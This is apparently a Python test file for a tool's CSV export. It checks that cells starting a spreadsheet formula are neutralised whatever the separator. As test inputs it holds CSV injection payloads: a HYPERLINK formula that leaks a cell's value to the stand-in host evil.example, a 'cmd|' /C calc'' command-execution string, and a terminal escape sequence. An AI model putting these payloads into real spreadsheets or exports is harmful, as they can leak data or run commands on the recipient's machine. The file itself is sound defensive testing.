"""Issue 10, class 3(a): `feedbackctl export --format csv` is safe in a spreadsheet, whatever its separator.

A reader that splits on commas and honours quotes (Python's csv module) must read back exactly the cells
written; a reader that splits on semicolons or tabs (another locale), quotes or not, must never meet a
cell that opens a formula. The oracle below states "opens a formula" on its own, from OWASP's list.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import timedelta

import pytest
from feedbackctl.commands.export import CSV_COLUMNS, csv_row
from feedbackctl.spreadsheet import safe_cell
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.unit.cli.fake_api import AGENT, DAY, run_cli, vote

# Characters that start formulas, break cells in some locale, or hide in front of a formula.
AWKWARD = [*"=+-@,;\t\r\n \"'|", "\uff1d", "\ufe62", "\uff0d", "\uff20", "\u200b", "\u202e", "\x00", "\xa0"]
texts = st.text(st.one_of(st.sampled_from(AWKWARD), st.characters(codec="utf-8")), max_size=40)


def opens_formula(cell: str) -> bool:
    """A spreadsheet may run this cell: it begins with a tab or CR, or, past blanks, invisible characters
    and double quotes, with = + - @ (or a compatibility form of one). A leading ' makes a cell text."""
    if cell[:1] in ("\t", "\r"):
        return True
    rest = cell.lstrip()
    while rest and (rest[0].isspace() or rest[0] == '"' or unicodedata.category(rest[0]) in ("Cc", "Cf")):
        rest = rest[1:]
    return rest[:1] != "'" and unicodedata.normalize("NFKC", rest[:1])[:1] in ("=", "+", "-", "@")


def written(rows: list[list[str]]) -> str:
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([safe_cell(text) for text in row])
    return out.getvalue()


def cells_split_on(text: str, separator: str) -> list[str]:
    """The cells of a reader that splits on `separator` and on line breaks, ignoring quotes entirely."""
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    return [cell for line in lines for cell in line.split(separator)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (' =HYPERLINK("http://evil.example/?"&A1)', '\' =HYPERLINK("http://evil.example/?"&A1)'),
        ("=1+1", "'=1+1"),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r\n=1", "'\r\n'=1"),
        ('"=1"', '\'"=1"'),
        ("\u200b\uff1d1", "'\u200b\uff1d1"),
        ("fine; =1+1", "fine;' =1+1"),
        ("a,@x", "a,'@x"),
        ("first line\n-second", "first line\n'-second"),
        ("a - b, and c = d", "a - b, and c = d"),
        ("cmd|' /C calc'!A0", "cmd|' /C calc'!A0"),
        ("", ""),
    ],
)
def test_safe_cell_examples(text, expected):
    assert safe_cell(text) == expected
    assert not any(opens_formula(cell) for separator in ",;\t" for cell in cells_split_on(expected, separator))


@settings(max_examples=400, deadline=None)
@given(st.lists(st.lists(texts, min_size=1, max_size=4), min_size=1, max_size=3))
def test_no_cell_opens_a_formula_for_any_separator_and_csv_reads_back_exactly(rows):
    text = written(rows)
    for separator in (",", ";", "\t"):
        for cell in cells_split_on(text, separator):
            assert not opens_formula(cell), (separator, cell)
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read == [[safe_cell(cell) for cell in row] for row in rows]
    for row in read:
        assert not any(opens_formula(cell) for cell in row)


@given(texts)
def test_safe_cell_only_inserts_quotes(text):
    safe = safe_cell(text)
    assert safe.replace("'", "") == text.replace("'", "")
    assert len(safe) - len(text) <= 1 + sum(text.count(mark) for mark in ",;\t\r\n")


def test_text_that_opens_no_formula_is_unchanged():
    text = 'Line one, with a comma\nand "quotes"; 3 - 2 = 1, mail me at ana@example.com'
    assert safe_cell(text) == text


def test_csv_row_defuses_every_text_column_and_keeps_numbers():
    item = {column: "=1+1" for column in CSV_COLUMNS} | {"revision": 3, "comment": None}
    row = csv_row(item)
    assert row[CSV_COLUMNS.index("revision")] == 3 and row[CSV_COLUMNS.index("comment")] is None
    assert all(cell == "'=1+1" for cell in row if isinstance(cell, str)) and len(row) == len(CSV_COLUMNS)


def test_export_csv_defuses_the_issue_example_and_semicolon_cells(gateway, store, capsys, tmp_path):
    hyperlink = ' =HYPERLINK("http://evil.example/?leak="&A1, "Click")'
    vote(store, "r1", "u1", "negative", DAY, comment=hyperlink)
    vote(store, "r2", "@u2", "negative", DAY + timedelta(minutes=1), comment="Too slow;=1+1\n-2")
    target = tmp_path / "feedback.csv"
    status, _, _ = run_cli(capsys, "export", "--agent", AGENT, "--format", "csv", "-o", str(target))
    assert status == 0
    text = target.read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows[0]["comment"] == "Too slow;'=1+1\n'-2" and rows[0]["user_id"] == "'@u2"
    assert rows[1]["comment"] == "'" + hyperlink
    for separator in (",", ";", "\t"):
        assert not any(opens_formula(cell) for cell in cells_split_on(text, separator)), separator


def test_export_csv_to_a_terminal_is_also_escaped(gateway, store, capsys, monkeypatch):
    vote(store, "r1", "u1", "negative", DAY, comment="=1\x1b[2J")
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    status, out, _ = run_cli(capsys, "export", "--agent", AGENT, "--format", "csv", "-o", "-")
    assert status == 0
    assert "\x1b" not in out and "'=1\\x1b[2J" in out
